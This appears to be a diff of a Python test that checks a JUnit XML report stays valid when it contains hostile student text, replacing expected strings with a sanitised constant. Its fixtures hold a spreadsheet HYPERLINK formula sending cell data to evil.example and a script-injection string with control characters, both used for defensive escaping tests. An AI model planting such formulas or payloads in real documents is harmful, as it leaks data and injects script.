@@ -28,6 +28,8 @@ SPEC = load_spec("selfcheck")
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 SECRET = "SECRET-hidden-counterexample-z=[2739.2337]"
 HOSTILE = "bad \x00\x1b<script>alert(1)</script>&amp; \ud800 end"
+# As a reader sees it: NUL and the lone surrogate replaced, ESC < (a terminal command) removed.
+INERT = "bad \ufffdscript>alert(1)</script>&amp; \ufffd end"
 
 
 def load(name: str) -> dict:
@@ -432,10 +434,10 @@ def test_junit_stays_valid_xml_with_hostile_text(template: dict) -> None:
         assert forbidden not in text
     assert "<script>" not in text
     suite = root.find("testsuite")
-    assert suite.get("name") == "student bad <script>alert(1)</script>&amp;  end"
+    assert suite.get("name") == f"student {INERT}"
     failure = next(c for c in suite.iter("failure") if "alert" in c.get("message"))
-    assert failure.get("message") == "bad <script>alert(1)</script>&amp;  end"
-    assert "bad <script>alert(1)</script>&amp;  end" in failure.text
+    assert failure.get("message") == INERT
+    assert INERT in failure.text
     timeouts = [e for e in suite.iter("error") if e.get("type") == "timeout"]
     assert len(timeouts) == 1
     assert int(suite.get("errors")) == expected_counts(report)[2]
